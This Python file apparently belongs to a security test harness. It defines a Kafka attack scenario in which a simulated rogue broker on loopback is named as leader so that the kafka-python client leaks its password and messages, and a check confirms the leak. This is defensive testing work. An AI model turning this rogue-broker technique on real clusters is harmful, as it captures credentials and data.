"""C4: a broker names another one as the leader. The producer logs in there and sends its messages."""

from backwatch.attack.authority import Authority
from backwatch.attack.clients.kafka import KafkaPython
from backwatch.attack.protocols.kafka import TOPIC, Kafka
from backwatch.attack.protocols.server import LOOPBACK, HostileServer
from backwatch.attack.scenarios import SECRET, Run, Scenario

ORDER = b"two apples"


class RogueCluster(Kafka):
    """The other broker was in the cluster once: it has the keys that all brokers share."""

    def __init__(self, authority: Authority) -> None:
        super().__init__(authority)
        self.elsewhere = self.attach(Kafka(authority))
        self.elsewhere.certificate = self.certificate

    def brokers(self) -> list[tuple[str, int]]:
        """Return the brokers, with a rogue leader once hostile."""
        return super().brokers() + ([(LOOPBACK, self.elsewhere.port)] if self.hostile else [])


class KafkaRogueBroker(Scenario):
    """kafka-python connects to every broker in the cluster's metadata."""

    code = "C4"
    attack = "names a broker that is not the cluster's as the leader, which is sent the password and the messages"
    reference = "https://kafka.apache.org/protocol.html#The_Messages_Metadata; ATT&CK T1557"
    rule = "topology-changed"
    server = RogueCluster
    runs = (Run(KafkaPython),)

    def work(self) -> object:
        """Send an order."""
        return self.client.send(TOPIC, ORDER)

    @classmethod
    def has_succeeded(cls, service: HostileServer, got: object) -> bool:
        """Return whether the other broker received the password and the order."""
        del got
        received = b"".join(service.collect_leaks())
        return SECRET.encode() in received and ORDER in received
